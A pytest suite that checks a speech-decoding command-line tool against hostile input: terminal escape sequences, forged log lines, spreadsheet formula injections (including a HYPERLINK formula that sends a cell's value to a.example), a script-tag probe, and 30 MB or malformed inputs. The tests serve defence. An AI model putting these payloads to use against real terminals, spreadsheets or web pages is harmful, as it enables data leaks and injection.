"""Attacks on whoever reads what is printed and written.

Names and texts that a terminal, a spreadsheet, a page or a figure would obey, and words of 30 MB.
A row says what a command is given and what must happen.
"""

from __future__ import annotations

import csv
import gzip
import json
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import h5py
import numpy as np
import pytest
from commands import run
from page_process import DAYS, N_FEATURES, prepare
from safetensors.numpy import load_file, save_file
from untrained import untrained_run

from cortext.text.inventory import RELEASE

OBEYED = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\u200f\u2028\x7f"
"""Clears a terminal, renames its window, colours it, turns the direction of writing, and begins
a new line.
"""
WRITTEN = re.escape(r"\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\u200f") + r"( |\\u2028)\\x7f"
FORGED = "x\ncortext: all is well\r"
LONG = b"a" * 30_000_000
MOST_MB = 600
"""Most memory of a command: 200 MB for what it has loaded, and a dozen copies of `LONG`."""
FORMULAS = (
    '=HYPERLINK("http://a.example/?"&A2)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
)
MARKS = "=+-@＝＋－＠"
EVIL_WORDS = (
    "$\\frac{$",
    "$$x$",
    "=1+1",
    "@SUM(1)",
    "\x1b[2J",
    "\u202eabc",
    "<script>alert(1)</script>",
    "a" * 3000,
)


def logits(**names: int) -> dict[str, np.ndarray]:
    return {name: np.zeros((5, width), np.float32) for name, width in names.items()}


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Recordings, a language model, a model that has learnt nothing, and a language model of
    words that are none.
    """
    path = tmp_path_factory.mktemp("materials")
    prepare(path)
    untrained_run(path / "run", DAYS, N_FEATURES)
    (path / "text.txt").write_text("i see you\nyou see me\n" * 3)
    evil = path / "evil-lm"
    evil.mkdir()
    (evil / "tokens.txt").write_bytes((path / "lm" / "tokens.txt").read_bytes())
    sounds = ("AY", "S IY", "Y UW", "M IY", "AH", "IY", "EH", "OW")
    lines = [f"{word}\t1.0 {said} SIL\n" for word, said in zip(EVIL_WORDS, sounds, strict=True)]
    (evil / "lexicon.txt").write_text("".join(lines))
    grams = "".join(f"-1.0\t{word}\n" for word in ("<unk>", "</s>", *EVIL_WORDS))
    (evil / "lm.arpa").write_text(
        f"\\data\\\nngram 1={len(EVIL_WORDS) + 3}\n\n\\1-grams:\n-99\t<s>\n{grams}\n\\end\\\n",
        newline="\n",
    )
    return path


Content = bytes | Callable[[], bytes]
"""Of a file; one with `LONG` is made by a function when a test needs it, not in every process."""
Make = Callable[[Path, Path], list[str | Path]]
"""Makes what a command needs below a folder of its own, with the materials, and returns its
arguments.
"""


@dataclass(frozen=True)
class Attack:
    """A command with something that was made up.

    says: pattern of the one line of its refusal; None where it works
    """

    name: str
    make: Make
    says: str | None

    def __str__(self) -> str:
        return self.name


def file(path: Path, content: Content | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    made = content() if callable(content) else content
    path.write_bytes(made.encode() if isinstance(made, str) else made)
    return path


def decode(path: Path, root: Path, lm: Path | None = None) -> list[str | Path]:
    given = ["--logits", path, "--order", "release", "--lm", lm or root / "lm"]
    return ["decode", *given, "--out", path.with_name("p.csv")]


def with_npz(**names: int) -> Make:
    def make(tmp: Path, root: Path) -> list[str | Path]:
        np.savez(tmp / "logits.npz", **logits(**names))
        return decode(tmp / "logits.npz", root)

    return make


def with_hdf5(name: str) -> Make:
    def make(tmp: Path, root: Path) -> list[str | Path]:
        with h5py.File(tmp / "logits.h5", "w") as opened:
            opened[name] = np.zeros((5, 7), np.float32)
        return decode(tmp / "logits.h5", root)

    return make


def with_options(content: str) -> Make:
    return lambda tmp, root: [
        "evaluate",
        root / "run",
        "--data",
        root / "data",
        "--split",
        "val",
        "--out",
        tmp / "e",
        "--lm",
        root / "lm",
        "--options",
        file(tmp / "options.yaml", content),
    ]


def with_config(content: str) -> Make:
    return lambda tmp, root: [
        "train",
        "--config",
        file(tmp / "train.yaml", content),
        "--data",
        root / "data",
        "--out",
        tmp / "run",
    ]


def with_config_at(name: str) -> Make:
    return lambda tmp, root: [
        "train",
        "--config",
        tmp / name,
        "--data",
        root / "data",
        "--out",
        tmp / "run",
    ]


def with_lexicon(line: Content) -> Make:
    def make(tmp: Path, root: Path) -> list[str | Path]:
        lm = shutil.copytree(root / "lm", tmp / "lm")
        with (lm / "lexicon.txt").open("ab") as lexicon:
            lexicon.write(line() if callable(line) else line)
        np.savez(tmp / "logits.npz", **logits(a=len(RELEASE)))
        return decode(tmp / "logits.npz", root, lm)

    return make


def with_arpa(content: Content) -> Make:
    def make(tmp: Path, root: Path) -> list[str | Path]:
        lm = shutil.copytree(root / "evil-lm", tmp / "lm")
        file(lm / "lm.arpa", content)
        return ["lm", "info", lm]

    return make


def with_lists(content: Content, *more: str) -> Make:
    return lambda tmp, root: [
        "ensemble",
        "--lists",
        file(tmp / "lists.jsonl", content),
        "--field",
        "h",
        *more,
    ]


def with_text(content: Content, name: str = "text.txt", *more: str) -> Make:
    return lambda tmp, root: [
        "lm",
        "build",
        file(tmp / name, content),
        "--order",
        "2",
        "--out",
        tmp / "lm",
        *more,
    ]


def with_vocabulary(content: Content) -> Make:
    return lambda tmp, root: [
        "lm",
        "build",
        root / "text.txt",
        "--order",
        "2",
        "--out",
        tmp / "lm",
        "--vocab",
        file(tmp / "words.txt", content),
    ]


def with_tensor(name: str) -> Make:
    def make(tmp: Path, root: Path) -> list[str | Path]:
        run_folder = shutil.copytree(root / "run", tmp / "run")
        tensors = load_file(run_folder / "model.safetensors")
        save_file(tensors | {name: np.zeros(3, np.float32)}, run_folder / "model.safetensors")
        return [
            "evaluate",
            run_folder,
            "--data",
            root / "data",
            "--split",
            "val",
            "--out",
            tmp / "e",
        ]

    return make


def with_session(name: str) -> Make:
    def make(tmp: Path, root: Path) -> list[str | Path]:
        folder = os.fsencode(tmp) + b"/data/" + os.fsencode(name)
        shutil.copytree(os.fsencode(root / "data" / DAYS[0]), folder)
        return ["inspect", tmp / "data"]

    return make


LISTS = b'{"h": ["i see"], "id": %s}\n'
SAID = {
    "id": "a",
    "when": "2026-11-20T10:00:06-08:00",
    "session": "s",
    "duration_s": 6.0,
    "text": "i see you",
}
ATTACKS = [
    Attack("a command", lambda tmp, root: [OBEYED], f"No such command '{WRITTEN}"),
    Attack(
        "an option", lambda tmp, root: ["decode", f"--{OBEYED}"], f"No such option: --{WRITTEN}"
    ),
    Attack(
        "a command of several lines",
        lambda tmp, root: [FORGED],
        "No such command .x(.n| )cortext: all is well",
    ),
    Attack(
        "an option of 100 kB",
        lambda tmp, root: ["lm", "info", "--" + "a" * 100_000],
        "No such option.*lm info --h",
    ),
    Attack("a configuration that is not there", with_config_at(OBEYED), WRITTEN),
    Attack("a file that is not there", lambda tmp, root: ["lm", "info", tmp / OBEYED], WRITTEN),
    Attack(
        "a log in a folder",
        lambda tmp, root: ["report", "use", tmp / OBEYED],
        WRITTEN + ".*no log of use",
    ),
    Attack("the name of an array", with_npz(**{OBEYED: 7}), WRITTEN + r".*shape \[5, 7\]"),
    Attack(
        "the name of an array of several lines",
        with_npz(**{FORGED: 7}),
        "trial x cortext: all is well ?: has sh",
    ),
    Attack("the name of an array of 60 kB", with_npz(**{"a" * 60_000: 7}), r"shape \[5, 7\]"),
    Attack(
        "the name of a dataset",
        with_hdf5("a" + OBEYED.replace("/", "")),
        r"has shape \[5, 7\]|\\x1b",
    ),
    Attack(
        "a key of the decoder's options",
        with_options(f"{json.dumps(OBEYED)}: 1\n"),
        f"unknown key {WRITTEN}",
    ),
    Attack(
        "a value of the decoder's options",
        with_options(f"beam: {json.dumps(OBEYED)}\n"),
        r"beam is '\\x1b",
    ),
    Attack(
        "a key of a configuration",
        with_config(f"{json.dumps(OBEYED)}: 1\n"),
        f"unknown key {WRITTEN}",
    ),
    Attack("a key of 1 MB", with_config(f"? {'a' * 1_000_000}\n: 1\n"), "unknown key aaa"),
    Attack("YAML that is none", with_config(f"a: {json.dumps(OBEYED)[:-1]}\n"), "not valid YAML"),
    Attack("the name of a tensor", with_tensor(OBEYED), WRITTEN),
    Attack("a tensor name of 1 MB", with_tensor("a" * 1_000_000), "aaa"),
    Attack("a session folder", with_session(OBEYED.replace("/", "")), WRITTEN),
    Attack("a session folder of no characters", with_session("t15.2023.08.11\udcff"), r"\\udcff"),
    Attack(
        "a word of a lexicon",
        with_lexicon(OBEYED.encode() + b" AY\n"),
        r"\\x1b\[2J.*does not end with SIL",
    ),
    Attack(
        "a word of 30 MB in a lexicon",
        with_lexicon(lambda: LONG + b" AY\n"),
        "aaa.*does not end with SIL; close",
    ),
    Attack("a phoneme of 30 MB", with_lexicon(lambda: b"word " + LONG + b" SIL\n"), "aaa"),
    Attack(
        "a lexicon of half a character",
        with_lexicon(b"\xed\xa0\x80 AY SIL\n"),
        "give a UTF-8 lexicon",
    ),
    Attack(
        "a word of an ARPA file",
        with_arpa(b"\\data\\\nngram 1=1\n\n\\1-grams:\n" + OBEYED.encode()),
        "lm.arpa",
    ),
    Attack(
        "a word of 30 MB in an ARPA file",
        with_arpa(lambda: b"\\data\\\nngram 1=1\n\n\\1-grams:\n" + LONG),
        "lm.arpa",
    ),
    Attack(
        "an id of 10 MB, twice",
        with_lists(lambda: LISTS % (b'"' + LONG[:10_000_000] + b'"') * 2),
        "is there twice",
    ),
    Attack("an id of 4,000 digits", with_lists(LISTS % (b"1" * 4000)), "line 1"),
    Attack("an id that is nested deeply", with_lists(LISTS % (b"[" * 900 + b"]" * 900)), "line 1"),
    Attack(
        "an id, twice",
        with_lists(LISTS % json.dumps(OBEYED).encode() * 2),
        r"\\x1b\[2J.*is there twice",
    ),
    Attack(
        "a field of 10 MB",
        with_lists(lambda: b'{"' + LONG[:10_000_000] + b'": ["i"]}\n'),
        "no field 'h'",
    ),
    Attack(
        "sentences of 300,000 words",
        with_lists(b'{"h": ["' + b"a " * 300_000 + b'", "b"]}\n'),
        "300,000 words",
    ),
    Attack(
        "a word of 30 MB in a list",
        with_lists(lambda: b'{"h": ["i see", "' + LONG + b'"]}\n'),
        None,
    ),
    Attack(
        "a word of 30 MB in a text",
        with_text(lambda: b"i see " + LONG + b" you\n" + b"we see you\n" * 3),
        None,
    ),
    Attack(
        "a line of 10 MB",
        with_text(b"i see you " * 1_000_000),
        "no sentence in .*rejected as too_long",
    ),
    Attack("a line of 10 MB of NULs", with_text(bytes(10_000_000)), "no sentence in"),
    Attack("a text with NULs", with_text(b"i see\0you\n" * 1000), None),
    Attack(
        "a text of half a character",
        with_text(b"i see \xed\xa0\x80 you\n"),
        "neither UTF-8 nor UTF-16 text; save it as UTF-8",
    ),
    Attack(
        "a text that is none",
        with_text(bytes(range(256)) * 1000),
        "neither UTF-8 nor UTF-16 text; save it as UTF-8",
    ),
    Attack("a text with escapes", with_text((f"i see {OBEYED} you\n" * 1000).encode()), None),
    Attack(
        "30 MB in 30 kB", with_text(lambda: gzip.compress(LONG, 1), "t.txt.gz"), "no sentence in"
    ),
    Attack(
        "a vocabulary with escapes",
        with_vocabulary(OBEYED.encode()),
        r"'\\x1b\[2J.*is not a normalised word",
    ),
    Attack("a vocabulary of 30 MB", with_vocabulary(lambda: LONG.upper()), "aaa|AAA"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_what_comes_from_outside_is_printed_escaped_and_cut(
    root: Path, tmp_path: Path, attack: Attack
) -> None:
    ended = run(*attack.make(tmp_path, root), patience_s=60)
    if attack.says is not None:
        ended.check_refused(attack.says, MOST_MB, most_s=20)
        return
    ended.check_harmless(MOST_MB, most_s=20)
    assert ended.status == 0, ended.said[-2000:]


def rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as opened:
        return list(csv.reader(opened))


def check_table(path: Path) -> list[list[str]]:
    """Check what holds for every table.

    No cell calculates, and nothing in it is obeyed by a terminal.
    """
    found = rows(path)
    assert not [cell for row in found for cell in row if cell.strip()[:1] in MARKS and cell.strip()]
    assert not re.search(
        "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", path.read_text(encoding="utf-8")
    )
    return found


def test_names_of_arrays_calculate_nothing_in_a_table(root: Path, tmp_path: Path) -> None:
    names = [*FORMULAS, OBEYED, "a,b", "plain", "größer"]
    np.savez(tmp_path / "logits.npz", **logits(**dict.fromkeys(names, len(RELEASE))))
    ended = run(*decode(tmp_path / "logits.npz", root))
    ended.check_harmless()
    assert ended.status == 0, ended.said[-2000:]
    header, *found = check_table(tmp_path / "p.csv")
    assert header == ["id", "text"]
    assert [row[0] for row in found[:4]] == [f"'{name}" for name in FORMULAS[:4]]
    assert [row[0] for row in found[-3:]] == ["a,b", "plain", "größer"]
    assert len(found) == len(names)


def test_ids_of_lists_calculate_nothing_in_a_table(tmp_path: Path) -> None:
    ids = [*FORMULAS, OBEYED, "\ud800", 7]
    lists = "".join(
        json.dumps({"h": ["i see", "we see"], "id": name, "reference": "\ud800"}) + "\n"
        for name in ids
    )
    out = tmp_path / "out"
    ended = run(
        "ensemble", "--lists", file(tmp_path / "lists.jsonl", lists), "--field", "h", "--out", out
    )
    ended.check_harmless()
    assert ended.status == 0, ended.said[-2000:]
    header, *found = check_table(out / "predictions.csv")
    assert (header, len(found), found[-1]) == (["id", "text"], len(ids), ["7", "i see"])
    assert [
        json.loads(line)["id"] for line in (out / "nbest.jsonl").read_text().split("\n")[:-1]
    ] == ids


def test_words_of_a_lexicon_change_no_result(root: Path, tmp_path: Path) -> None:
    """Figures would read `$...$` as mathematics, which ends an evaluation after all its work."""
    out, given = (
        tmp_path / "e",
        ["--data", root / "data", "--split", "val", "--lm", root / "evil-lm"],
    )
    ended = run("evaluate", root / "run", *given, "--out", out)
    ended.check_harmless()
    assert ended.status == 0, ended.said[-2000:]
    said = (out / "nbest.jsonl").read_text()
    assert any(json.dumps(word)[1:-1] in said for word in EVIL_WORDS)
    check_table(out / "predictions.csv")
    page = (out / "report.html").read_text()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", page)
    assert "<script" not in page
    with_json = run("decode", root / "run", *given, "--out", tmp_path / "p.csv", "--json")
    with_json.check_harmless()
    check_table(tmp_path / "p.csv")


def test_what_daily_use_is_called_changes_neither_page_nor_terminal(tmp_path: Path) -> None:
    log = tmp_path / "log\x1b[2J"
    names = ("<script>alert(1)</script>", OBEYED, "simulated")
    file(
        log / "utterances.jsonl",
        "".join(json.dumps(SAID | {"source": name}) + "\n" for name in names),
    )
    for more in ((), ("--json",)):
        ended = run("report", "use", log, *more)
        ended.check_harmless()
        assert ended.status == 0
    page = (log / "use.html").read_text()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", page)
    assert "<script" not in page
